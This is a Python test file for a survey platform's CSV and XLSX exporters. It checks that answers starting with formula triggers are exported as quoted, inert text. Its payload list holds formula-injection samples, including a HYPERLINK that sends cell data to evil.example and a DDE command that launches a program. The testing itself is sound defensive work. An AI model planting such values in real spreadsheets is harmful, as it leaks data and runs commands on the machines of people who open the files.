"""Defect 3: answers and imported values that a spreadsheet would run as formulas are exported inert."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from connectors.base import exporter_for
from connectors.cells import TRIGGERS, neutralise
from tests.api.test_forms_api import issue_survey, open_form, submit
from tests.conftest import Province, auth
from tests.security.flows import SCHOOL1

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def test_formulas_in_answers_are_exported_as_inert_text_to_csv_and_xlsx(client: TestClient, province: Province) -> None:
    note = {"label": "学校备注", "type": "text"}
    rid = issue_survey(client, province, fields=[{"key": "school.address"}, note])["request"]["id"]
    form, etag = open_form(client, province)
    note_key = next(i["key"] for i in form["items"] if i["classification"] == "new")
    r = submit(client, province, form, etag, [
        {"key": note_key, "value": PAYLOADS[0]},
        {"key": "school.address", "value": "=1+1", "reason": "地址核对"}])
    assert r.status_code == 200, r.text
    h = auth(province.tokens["department"])
    text = client.get(f"/v1/requests/{rid}/results?format=csv", headers=h).content.decode("utf-8-sig")
    row = next(x for x in csv.DictReader(io.StringIO(text)) if x["school_code"] == SCHOOL1)
    assert row[note["label"]] == "'" + PAYLOADS[0] and row["学校地址"] == "'=1+1"  # columns in the department's words
    wb = load_workbook(io.BytesIO(client.get(f"/v1/requests/{rid}/results?format=xlsx", headers=h).content))
    cells = [c for r in wb.active.iter_rows() for c in r]
    assert all(c.data_type != "f" for c in cells)
    assert not any(isinstance(c.value, str) and c.value[:1] in TRIGGERS for c in cells)
    assert "'" + PAYLOADS[0] in [c.value for c in cells]


def test_every_exporter_neutralises_every_trigger_and_keeps_numbers() -> None:
    table = pa.table({"text": [*PAYLOADS, "-5", "3.5", "plain", None], "n": list(range(len(PAYLOADS) + 4))})
    for fmt in ("csv", "xlsx"):
        buf = io.BytesIO()
        exporter_for(fmt).write(table, buf)
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(buf.getvalue().decode("utf-8-sig"), newline="")))[1:]
            values, numbers = [r[0] for r in rows], [r[1] for r in rows]
            assert numbers == [str(i) for i in range(len(rows))]
        else:
            ws = load_workbook(buf).active
            values = [r[0].value or "" for r in ws.iter_rows(min_row=2)]
            assert [r[1].value for r in ws.iter_rows(min_row=2)] == list(range(len(values)))  # numbers stay numbers
            assert all(r[0].data_type == "s" for r in ws.iter_rows(min_row=2) if r[0].value is not None)
        assert [v.replace("\n", "\r") for v in values[: len(PAYLOADS)]] == ["'" + p for p in PAYLOADS]  # XML reads CR as LF
        assert values[len(PAYLOADS):len(PAYLOADS) + 3] == ["-5", "3.5", "plain"]


@given(st.text(max_size=30))
def test_no_exported_text_cell_starts_a_formula(value: str) -> None:
    out = neutralise(value)
    assert out == value or out == "'" + value
    if out[:1] and out[0] in TRIGGERS:
        float(out)  # only a plain number may start with a sign
